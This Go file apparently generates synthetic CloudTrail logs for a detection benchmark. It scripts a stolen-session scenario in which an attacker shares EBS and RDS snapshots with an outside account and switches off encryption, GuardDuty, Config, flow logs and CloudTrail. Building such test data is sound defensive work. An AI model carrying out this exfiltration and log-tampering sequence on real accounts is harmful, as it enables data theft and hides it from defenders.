package stories

import (
	"time"

	"github.com/trailbench/trailbench/sample-logs/generate/synth"
)

// snapshotSharing: an engineer's session is stolen from her laptop; whoever has it
// gives the databases' snapshots to an outside account and then switches the light off.
func snapshotSharing(p *script) {
	p.at("2026-01-24 00:00:00")
	p.options.Start, p.options.Days, p.options.Events = p.now, 3, 600
	p.options.Accounts = []string{shop}

	power := &synth.Role{Account: shop, Path: "/aws-reserved/sso.amazonaws.com/", Name: "AWSReservedSSO_PowerUserAccess_5a6b7c8d9e0f1a2b", ID: p.random.UniqueID("AROA")}
	const engineer, home = "akua@example.com", "192.0.2.134"
	p.at("2026-01-24 10:05:33")
	p.routine(p.session(power, engineer, home, agentCLI), 30, 300,
		call{op: "sts:GetCallerIdentity"}, call{op: "rds:DescribeDBInstances"}, call{op: "ec2:DescribeInstances"}, call{op: "ec2:DescribeSnapshots"})

	p.at("2026-01-25 14:20:10")
	akua := p.session(power, engineer, home, agentCLI)
	p.routine(akua, 30, 200, call{op: "sts:GetCallerIdentity"}, call{op: "rds:DescribeDBInstances"}, call{op: "ec2:DescribeInstances"})
	for range 8 { // she goes on working all the while, with the same key
		p.wait(150, 240)
		p.ordinary(akua, call{op: "ec2:DescribeInstances"})
	}

	p.at("2026-01-25 14:31:48")
	thief := akua.from("203.0.113.201", agentBoto)
	p.attack(thief, call{op: "sts:GetCallerIdentity"}, "T1078.004", "the engineer's key is used from a second address at the same time")
	for _, op := range []string{"ec2:DescribeInstances", "ec2:DescribeVolumes", "ec2:DescribeSnapshots", "rds:DescribeDBInstances", "rds:DescribeDBSnapshots", "ec2:GetEbsEncryptionByDefault", "ec2:GetEbsDefaultKmsKeyId"} {
		p.attack(thief, call{op: op}, "T1580", "looks for volumes and databases")
	}
	p.attack(thief, call{op: "ec2:DisableEbsEncryptionByDefault", request: `{"DisableEbsEncryptionByDefaultRequest":""}`, response: format(`{"DisableEbsEncryptionByDefaultResponse":{"ebsEncryptionByDefault":false,"requestId":"%s"}}`, p.random.UUID())}, "T1685", "new volumes are no longer encrypted")
	p.shareSnapshots(thief)
	p.darkness(thief)
}

// shareSnapshots copies disks and a database and gives the copies away.
func (p *script) shareSnapshots(thief who) {
	var taken []string
	for range 3 {
		volume, snapshot := p.id("vol"), p.id("snap")
		taken = append(taken, snapshot)
		p.attack(thief, call{
			op: "ec2:CreateSnapshot", request: format(`{"volumeId":"%s","description":"maintenance"}`, volume),
			response: format(`{"requestId":"%s","snapshotId":"%s","volumeId":"%s","status":"pending","startTime":%d,"progress":"","ownerId":"%s","volumeSize":"200","description":"maintenance","encrypted":false}`, p.random.UUID(), snapshot, volume, p.now.UnixMilli(), shop),
		}, "T1074", "takes a snapshot of a data volume")
	}
	p.wait(300, 400)
	for _, snapshot := range taken {
		p.attack(thief, call{
			op:       "ec2:ModifySnapshotAttribute",
			request:  format(`{"snapshotId":"%s","createVolumePermission":{"add":{"items":[{"userId":"%s"}]}},"attributeType":"CREATE_VOLUME_PERMISSION"}`, snapshot, strangers),
			response: format(`{"requestId":"%s","_return":true}`, p.random.UUID()),
		}, "T1537", "shares the snapshot with an outside account")
	}
	p.attack(thief, call{
		op: "rds:CreateDBSnapshot", request: `{"dBInstanceIdentifier":"orders-db","dBSnapshotIdentifier":"orders-db-maintenance"}`,
		response: format(`{"dBSnapshotIdentifier":"orders-db-maintenance","dBInstanceIdentifier":"orders-db","status":"creating","engine":"postgres","masterUsername":"HIDDEN_DUE_TO_SECURITY_REASONS","dBSnapshotArn":"arn:aws:rds:us-east-1:%s:snapshot:orders-db-maintenance","encrypted":false}`, shop),
	}, "T1074", "takes a snapshot of the orders database")
	p.wait(200, 300)
	p.attack(thief, call{
		op: "rds:ModifyDBSnapshotAttribute", request: format(`{"dBSnapshotIdentifier":"orders-db-maintenance","attributeName":"restore","valuesToAdd":["%s"]}`, strangers),
		response: format(`{"dBSnapshotIdentifier":"orders-db-maintenance","dBSnapshotAttributes":[{"attributeName":"restore","attributeValues":["%s"]}]}`, strangers),
	}, "T1537", "shares it with the same account")
	image := p.id("ami")
	p.attack(thief, call{
		op: "ec2:CreateImage", request: format(`{"instanceId":"%s","name":"bastion-backup","noReboot":true}`, p.id("i")), response: format(`{"requestId":"%s","imageId":"%s"}`, p.random.UUID(), image),
	}, "T1074", "makes an image of a server")
	public := call{
		op: "ec2:ModifyImageAttribute", request: format(`{"imageId":"%s","launchPermission":{"add":{"items":[{"group":"all"}]}},"attributeType":"launchPermission"}`, image),
		code: "Client.OperationNotPermitted", message: "You cannot publicly share this image because block public access for AMIs is enabled in this Region.",
	}
	p.attack(thief, public, "T1537", "tries to make the image public; blocked")

	// What AWS itself records when the other side takes the bait.
	p.wait(240, 300)
	for i, snapshot := range taken {
		outsider := who{identity: synth.Identity{Type: "AWSAccount", Account: strangers, InvokedBy: "ec2.amazonaws.com"}, address: "ec2.amazonaws.com", agent: "ec2.amazonaws.com"}
		op := "ec2:SharedSnapshotCopyInitiated"
		if i == 1 {
			op = "ec2:SharedSnapshotVolumeCreated"
		}
		p.attack(outsider, call{
			op: op, account: shop, kind: "AwsServiceEvent",
			details: format(`{"snapshotId":"%s"}`, snapshot),
		}, "T1537", "the outside account copies what was shared")
	}
}

// darkness switches off what would tell, the trail at last, and what comes after is
// not in any file until somebody notices.
func (p *script) darkness(thief who) {
	trail := "arn:aws:cloudtrail:us-east-1:" + shop + ":trail/management-events"
	p.attack(thief, call{op: "cloudtrail:DescribeTrails"}, "T1526", "asks what is recorded")
	p.attack(thief, call{op: "cloudtrail:GetTrailStatus", request: format(`{"name":"%s"}`, trail)}, "T1526", "asks what is recorded")
	p.attack(thief, call{op: "guardduty:ListDetectors"}, "T1518", "asks what watches")
	p.attack(thief, call{op: "guardduty:UpdateDetector", request: `{"detectorId":"12abc34d567e8fa901bc2d34e56789f0","enable":false}`}, "T1685", "suspends GuardDuty")
	p.attack(thief, call{op: "config:StopConfigurationRecorder", request: `{"configurationRecorderName":"default"}`}, "T1685.002", "stops AWS Config")
	p.attack(thief, call{op: "config:DeleteDeliveryChannel", request: `{"deliveryChannelName":"default"}`}, "T1685.002", "takes its delivery away")
	p.attack(thief, call{op: "ec2:DeleteFlowLogs", request: `{"DeleteFlowLogsRequest":{"FlowLogId":{"tag":1,"content":"fl-0123456789abcdef0"}}}`, response: format(`{"DeleteFlowLogsResponse":{"unsuccessful":"","requestId":"%s"}}`, p.random.UUID())}, "T1685.002", "deletes the flow logs")
	p.attack(thief, call{
		op: "cloudtrail:PutEventSelectors", request: format(`{"trailName":"%s","eventSelectors":[{"readWriteType":"WriteOnly","includeManagementEvents":true,"dataResources":[],"excludeManagementEventSources":["kms.amazonaws.com","rdsdata.amazonaws.com"]}]}`, trail),
		response: format(`{"trailARN":"%s","eventSelectors":[{"readWriteType":"WriteOnly","includeManagementEvents":true,"dataResources":[],"excludeManagementEventSources":["kms.amazonaws.com","rdsdata.amazonaws.com"]}]}`, trail),
	}, "T1685.002", "narrows the trail to writes")
	p.attack(thief, call{op: "cloudtrail:DeleteTrail", request: format(`{"name":"%s"}`, trail)}.refused(thief), "T1685.002", "tries to delete the trail; refused")
	p.attack(thief, call{op: "cloudtrail:DeleteTrail", region: "eu-west-1", request: `{"name":"eu-audit"}`}, "T1685.002", "deletes a smaller trail in another region")
	p.attack(thief, call{op: "cloudtrail:StopLogging", request: format(`{"name":"%s"}`, trail)}, "T1685.002", "stops the trail")

	dark := p.now.Add(2 * time.Minute)
	light := time.Date(2026, 1, 26, 8, 57, 0, 0, time.UTC)
	p.options.Silence = []synth.Silence{{Account: shop, From: dark, To: light}}
	p.now = light
	keeper := p.user(shop, "platform-admin", "192.0.2.110", agentCLI)
	p.routine(keeper, 20, 90,
		call{op: "cloudtrail:StartLogging", request: format(`{"name":"%s"}`, trail)},
		call{op: "cloudtrail:GetTrailStatus", request: format(`{"name":"%s"}`, trail)},
		call{op: "cloudtrail:GetEventSelectors", request: format(`{"trailName":"%s"}`, trail)},
		call{op: "guardduty:UpdateDetector", request: `{"detectorId":"12abc34d567e8fa901bc2d34e56789f0","enable":true}`},
		call{op: "ec2:DescribeSnapshots"},
	)
}
